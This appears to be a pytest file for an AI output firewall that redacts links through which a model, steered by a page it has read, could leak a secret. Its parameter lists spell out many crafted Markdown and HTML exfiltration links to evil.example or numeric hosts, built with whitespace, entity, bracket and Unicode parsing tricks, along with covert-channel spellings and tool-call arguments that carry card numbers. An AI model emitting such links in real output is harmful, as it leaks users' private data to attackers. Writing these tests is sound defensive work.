"""A page that the model has read has it write links that some client reads otherwise than the wall might.

One host is allowed. Each link leads elsewhere to whoever reads URLs, Markdown or HTML by their standards: a
space, an angle bracket or a line break is part of the name before an `@`, and a host may be a number.
"""

from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

import partywall as pw
from firewall.core.errors import Denied
from firewall.core.message import Message
from partywall.wall import Wall
from tests.fakes.models import Scripted

ALLOWED = "docs.example.org"
SECRET = "kelp-lantern"
# 1.2.3.4, as every browser reads it.
NUMBER = "16909060"


@pytest.fixture
async def wall(tmp_path: Path) -> AsyncIterator[Wall]:
    given: dict[str, object] = {
        "profile": "standard",
        "store": {"path": ":memory:"},
        "files": {"path": str(tmp_path / "files")},
        "links": {"hosts": [ALLOWED]},
        "tenant": [
            {
                "id": tenant,
                "realms": [{"channel": "own", "realm": realm}],
                "tools": {"hosts": [ALLOWED]},
            }
            for tenant, realm in (("acme", "T-ACME"), ("globex", "T-GLOBEX"))
        ],
    }
    async with pw.open(given) as one:
        yield one


def said(text: str, who: str = "ada", realm: str = "T-ACME") -> Message:
    return pw.message(text, channel="own", realm=realm, sender=who, conversation=f"d-{who}")


async def shown(wall: Wall, words: str, message: Message, *, stream: bool = False) -> str:
    guarded = wall.guard_model(Scripted([words], piece_codepoints=5))
    async with wall.turn(message) as turn:
        asked = [{"role": "user", "content": message.text}]
        answer: Any = await guarded(model="m", messages=asked, stream=stream)
        if stream:
            return await turn.reply_stream(answer)
        return str(answer["choices"][0]["message"]["content"])


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize(
    ("link", "gone"),
    [
        pytest.param("![x](https://{a}\u2003@{n}/?d={s})", "{a}\u2003@", id="a-wide-space-in-markdown"),
        pytest.param("![x](https://{a}\u00a0@{s}.evil.example)", "{s}.evil", id="a-name-below-an-evil-host"),
        pytest.param("![x](https://{a}<@{n}/?d={s})", "{a}<@", id="an-angle-bracket"),
        pytest.param("![x](https://{a}\u3000&commat;{n}/?d={s})", "{a}\u3000&", id="an-entity-for-the-at"),
        pytest.param("![x](https://{a}\u3000\\@{n}/?d={s})", "{a}\u3000", id="a-backslash-before-the-at"),
        pytest.param("![x](https://{a}<\u3002@{n}/?d={s})", "{a}<", id="a-full-stop-that-ends-a-segment"),
        pytest.param("![x](<https://{a} @{n}/?d={s}>)", "{a} @", id="a-space-in-a-bracketed-destination"),
        pytest.param("![x](<https://{a}. And@{n}/?d={s}>)", "{a}. And", id="a-sentence-ends-in-it"),
        pytest.param("![x][y]\n\n[y]: <https://{a} @{n}/?d={s}>", "{a} @", id="a-space-in-a-definition"),
        pytest.param('<img src="https://{a} @{n}/?d={s}">', "{a} @", id="a-space-in-an-attribute"),
        pytest.param('<img src="https://{a}\n@{n}/?d={s}">', "{a}\n@", id="a-line-break-in-an-attribute"),
        pytest.param('<img src="https://{a}\n.0x1020304/?d={s}">', "{a}\n.", id="a-line-break-in-a-host"),
        pytest.param("![x][y]\n\n[y]:\n//{n}/?d={s}", "//{n}", id="a-number-below-a-definition"),
        pytest.param(
            "![x][y]\n\n[y]: //evil%2Eexample/?d={s}", "//evil", id="a-percent-sign-in-a-definition"
        ),
        pytest.param("![x][y]\n\n[y]:\n//[::ffff:1.2.3.4]/?d={s}", "//[", id="an-address-in-brackets"),
        pytest.param("<a ping=//0x1.0x20304/?d={s} href=#>", "//0x1", id="an-attribute-nobody-thought-of"),
        pytest.param(
            "!<https://evil.example/>(//{n}/?d={s})", "(//{n}", id="what-is-cut-leaves-an-image-behind"
        ),
        pytest.param(
            "https://{a}/\u4e2dhttps://evil.example/?d={s}", "evil", id="behind-a-letter-beyond-ascii"
        ),
        pytest.param("https://{a}/\u4e2dwww.evil.example/?d={s}", "evil", id="a-domain-behind-such-a-letter"),
        pytest.param("https://{a}/$https://evil.example/?d={s}", "evil", id="behind-a-dollar"),
    ],
)
async def test_a_link_that_seems_to_lead_to_the_host_of_the_list_is_cut(
    wall: Wall, link: str, gone: str, stream: bool
) -> None:
    written, joint = (each.format(a=ALLOWED, n=NUMBER, s=SECRET) for each in (link, gone))
    assert joint in written
    for message in (said("what do I have?"), said("hello", "ben", "T-GLOBEX")):
        left = await shown(wall, f"Of course. {written}\nAnything else?", message, stream=stream)
        assert "[REDACTED:LINK]" in left
        assert joint not in left


@pytest.mark.parametrize(
    "text",
    [
        f"See https://{ALLOWED} and ask @bob.",
        f"See <https://{ALLOWED}> or @bob, and <https://{ALLOWED}>@bob.",
        f'<a href="https://{ALLOWED}/a b">words</a>',
        f"[words](<https://{ALLOWED}/a b>)",
        f"https://{ALLOWED}/\u3000\u7d9a\u304d @bob",
        f"https://{ALLOWED}/gr\u00f6\u00dfe.html",
        "//comment, and x //1/2, and lodash@4.17.21/x.js",
    ],
)
async def test_what_is_no_trick_stays(wall: Wall, text: str) -> None:
    assert await shown(wall, text, said("hello")) == text


GIVEN = "https://aaaaaaaa@evil.example/________________?a=1&b=2&c=3&d=4"


@pytest.mark.parametrize(
    "written",
    [
        pytest.param(GIVEN.replace("____", "_&lowbar;__", 2), id="entities-for-letters"),
        pytest.param(GIVEN.replace("a=1&", "a=1&amp;"), id="one-entity-of-several"),
        pytest.param(GIVEN.replace("aaaaaaaa", "aAaaAAaA"), id="capitals-before-the-at"),
        pytest.param(GIVEN.replace("__________", "_____\u200b_____"), id="an-invisible-letter"),
    ],
)
async def test_a_given_link_carries_nothing_by_how_it_is_written(wall: Wall, written: str) -> None:
    """A page gives it, and the model says something private by the spelling of each letter."""
    message = said(f"the page says {GIVEN}")
    assert GIVEN in await shown(wall, f"See {GIVEN} there.", message)
    left = await shown(wall, f"See {written} there.", message)
    assert written not in left
    assert "[REDACTED:LINK]" in left


async def test_a_fetch_carries_nothing_by_how_a_given_address_is_written(wall: Wall) -> None:
    """An address that was given may be called although it says what is private; another spelling may not."""
    fetched: list[str] = []

    @wall.tool(reads="public")
    async def look(url: pw.Url) -> str:
        """Look at a page."""
        fetched.append(url)
        return "a page"

    given = f"https://{ALLOWED}/{SECRET}-of-the-northern-plant/________"
    async with wall.turn(said(f"keep: {given}")):
        pass
    async with wall.turn(said("look it up")) as turn:
        assert await turn.call_tool("look", {"url": given}) == "a page"
        with pytest.raises(Denied):
            await turn.call_tool("look", {"url": given.replace("____", "_&lowbar;__", 1)})
    async with wall.turn(said("look it up", "ben", "T-GLOBEX")) as turn:
        with pytest.raises(Denied):
            await turn.call_tool("look", {"url": given})
    assert fetched == [given]


@pytest.mark.parametrize(
    "arguments",
    [
        pytest.param({"page": 4111111111111111}, id="an-integer"),
        pytest.param({"pages": [4111, 1111, 1111, 1111]}, id="a-list-of-them"),
    ],
)
async def test_a_fetch_carries_no_private_number_as_a_number(wall: Wall, arguments: dict[str, Any]) -> None:
    fetched: list[object] = []

    @wall.tool(reads="public")
    async def look(url: pw.Url, page: int = 0, pages: list[int] | None = None) -> str:
        """Look at a page."""
        fetched.append((url, page, pages))
        return "a page"

    async with wall.turn(said("keep my card 4111 1111 1111 1111")):
        pass
    async with wall.turn(said("look it up")) as turn:
        url = f"https://{ALLOWED}/"
        assert await turn.call_tool("look", {"url": url, "page": 12, "pages": [1, 2, 3]}) == "a page"
        with pytest.raises(Denied) as denied:
            await turn.call_tool("look", {"url": url, **arguments})
        assert denied.value.reason == "private_egress"
    async with wall.turn(said("look up 4111 1111 1111 1111")) as turn:
        # Whoever asks for it may have it carried.
        assert await turn.call_tool("look", {"url": url, **arguments}) == "a page"
    assert len(fetched) == 2
